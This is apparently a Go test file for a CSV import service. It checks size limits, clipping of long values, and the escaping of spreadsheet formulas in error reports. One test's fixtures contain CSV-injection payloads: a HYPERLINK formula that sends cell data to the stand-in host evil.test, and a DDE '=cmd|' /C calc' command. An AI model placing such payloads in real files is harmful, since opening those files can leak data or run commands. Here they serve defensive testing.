package imports_test

import (
	"encoding/csv"
	"io"
	"net/http"
	"net/url"
	"reflect"
	"strings"
	"testing"

	"gatehouse/app/imports"
)

// repeatByte is an endless stream of one byte, so a test can make a huge
// file without holding it.
type repeatByte byte

func (b repeatByte) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = byte(b)
	}
	return len(p), nil
}

// TestStagingRefusesAHugeRow is the review's one-row file with a 60 MB
// field: staging fails naming the line, the job says why, and its page is
// small.
func TestStagingRefusesAHugeRow(t *testing.T) {
	f := newFixture(t)
	c := newConsole(t, f, nil)
	src := io.MultiReader(strings.NewReader("email,note\nann@example.com,"), io.LimitReader(repeatByte('x'), 60<<20), strings.NewReader("\n"))
	j, err := f.svc.Stage(f.ctx, f.a, cli, "huge.csv", "", src)
	var fe *imports.FileError
	if !asFileError(err, &fe) || fe.Line != 2 || !strings.Contains(fe.Reason, "the row is longer than 1.0 MB") {
		t.Fatalf("err = %v, want a FileError naming line 2", err)
	}
	got, _ := f.svc.Job(f.ctx, f.a.ID, j.ID)
	if got.Status != imports.StatusFailed || got.Chunks != 0 || !strings.Contains(got.Error, "line 2: the row is longer than 1.0 MB") {
		t.Fatalf("job %+v", got)
	}
	body := c.get(t, "/t/acme/imports/"+j.ID.String(), false).Body.String()
	if !strings.Contains(body, "line 2: the row is longer than 1.0 MB") || len(body) > 64<<10 {
		t.Fatalf("job page of %d bytes:\n%.2000s", len(body), body)
	}
}

// TestJobPageClipsWhatTheFileHolds: a long column name and a long value
// reach the page, the mapping form and its error clipped, never whole.
func TestJobPageClipsWhatTheFileHolds(t *testing.T) {
	f := newFixture(t)
	c := newConsole(t, f, nil)
	name := strings.Repeat("h", 5000)
	value := strings.Repeat("v", 200_000)
	file := "email," + name + ",notes\n" +
		"ann@example.com," + value + ",ok\n" +
		"bob@example.com,x\n"
	w := c.upload(t, "acme", "long.csv", file)
	loc := w.Header().Get("Location")
	if w.Code != http.StatusSeeOther || !jobPath.MatchString(loc) {
		t.Fatalf("upload: %d %q\n%.2000s", w.Code, loc, w.Body)
	}
	check := func(t *testing.T, body string) {
		t.Helper()
		for _, long := range []string{strings.Repeat("h", 61), strings.Repeat("v", 61)} {
			if strings.Contains(body, long) {
				t.Errorf("the page repeats %.10s… at more than 60 characters", long)
			}
		}
		if len(body) > 64<<10 {
			t.Errorf("the page is %d bytes", len(body))
		}
	}
	body := c.get(t, loc, false).Body.String()
	check(t, body)
	for _, want := range []string{
		`<th scope="col">` + strings.Repeat("h", 57) + "…</th>", // the preview's header
		"<td>" + strings.Repeat("v", 57) + "…</td>",             // its first row
		`data-column="` + strings.Repeat("h", 57) + `…"`,        // the mapping form
		"has 2 values; the header has 3 columns",                // the short row's error
	} {
		if !strings.Contains(body, want) {
			t.Errorf("the job page lacks %.80q", want)
		}
	}
	if t.Failed() {
		t.Fatalf("job page:\n%.3000s", body)
	}
	// A mapping without an email lists the file's columns in its error.
	w = c.post(t, loc+"/start", url.Values{"mode": {"upsert"}, "action": {"dry"}, "target_0": {"ignore"}, "target_1": {"ignore"}, "target_2": {"ignore"}})
	body = w.Body.String()
	if w.Code != http.StatusUnprocessableEntity || !strings.Contains(body, "no column holds the email address; the file&#39;s columns are &#34;email&#34;, &#34;"+strings.Repeat("h", 57)+"…&#34;, &#34;notes&#34;") {
		t.Fatalf("mapping error: %d\n%.3000s", w.Code, body)
	}
	check(t, body)
}

// TestErrorReportNeutralisesFormulas downloads the error report of a file
// whose rejected rows and header hold spreadsheet formulas: every cell
// that would start a formula starts with ' instead, and the rest are as
// the file had them.
func TestErrorReportNeutralisesFormulas(t *testing.T) {
	f := newFixture(t)
	c := newConsole(t, f, nil)
	file := "=email,first_name,@notes\n" +
		"ann@example.com,Ann,\"=HYPERLINK(\"\"https://evil.test/?\"\"&A1,\"\"click\"\")\"\n" + // imported, not in the report
		"=cmd|' /C calc'!A0,Bob,+1\n" +
		"-bad,\tEve,@SUM(A1:A9)\n" +
		"\"\rcarl\",-2+3,plain\n"
	w := c.upload(t, "acme", "formulas.csv", file)
	loc := w.Header().Get("Location")
	if w.Code != http.StatusSeeOther {
		t.Fatalf("upload: %d\n%s", w.Code, w.Body)
	}
	form := url.Values{"mode": {"create"}, "date_format": {"YYYY-MM-DD"}, "action": {"run"},
		"target_0": {"email"}, "target_1": {"field:first_name"}, "target_2": {"ignore"}}
	if w := c.post(t, loc+"/start", form); w.Code != http.StatusSeeOther {
		t.Fatalf("run: %d\n%s", w.Code, w.Body)
	}
	f.queue.Wait()
	w = c.get(t, loc+"/errors.csv", false)
	if w.Code != http.StatusOK || w.Header().Get("Content-Type") != "text/csv; charset=utf-8" {
		t.Fatalf("report: %d %v", w.Code, w.Header())
	}
	r := csv.NewReader(strings.NewReader(w.Body.String()))
	r.FieldsPerRecord = -1
	got, err := r.ReadAll()
	if err != nil {
		t.Fatalf("the report is not CSV: %v\n%s", err, w.Body)
	}
	want := [][]string{
		{"line", "reason", "'=email", "first_name", "'@notes"},
		{"3", `'=email: "=cmd|' /C calc'!A0" is not a valid email address`, "'=cmd|' /C calc'!A0", "Bob", "'+1"},
		{"4", `'=email: "-bad" is not a valid email address`, "'-bad", "'\tEve", "'@SUM(A1:A9)"},
		{"5", `'=email: "carl" is not a valid email address`, "'\rcarl", "'-2+3", "plain"},
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("report\n got %q\nwant %q", got, want)
	}
	for _, rec := range got {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q starts a formula", cell)
			}
		}
	}
}

// TestReportValuesImportAgain: the ' the report puts before a formula
// character is dropped when the report is imported again, so a fixed
// report brings back the values, and the column names, the file had.
func TestReportValuesImportAgain(t *testing.T) {
	f := newFixture(t)
	j := f.stage(t, f.b, "shop-errors.csv", "line,reason,'=email,phone,first_name\n"+
		"2,was wrong,zoe@example.com,'+44 20 7946 0958,'-Zoe\n")
	if !reflect.DeepEqual(j.Dialect.Columns, []string{"line", "reason", "=email", "phone", "first_name"}) {
		t.Fatalf("columns %q", j.Dialect.Columns)
	}
	m := imports.Mapping{Mode: imports.ModeCreate, Columns: []imports.ColumnMap{
		{Column: "=email", Target: imports.TargetEmail}, {Column: "phone", Target: imports.FieldTarget("phone")}, {Column: "first_name", Target: imports.FieldTarget("first_name")}}}
	if p := f.pass(t, f.b, j, m, false); p.Counts.Created != 1 {
		t.Fatalf("counts %+v", p.Counts)
	}
	if got := f.customers(t, f.b.ID)["zoe@example.com"].Profile; got != `{"first_name":"-Zoe","phone":"+442079460958"}` {
		t.Fatalf("profile %s", got)
	}
}
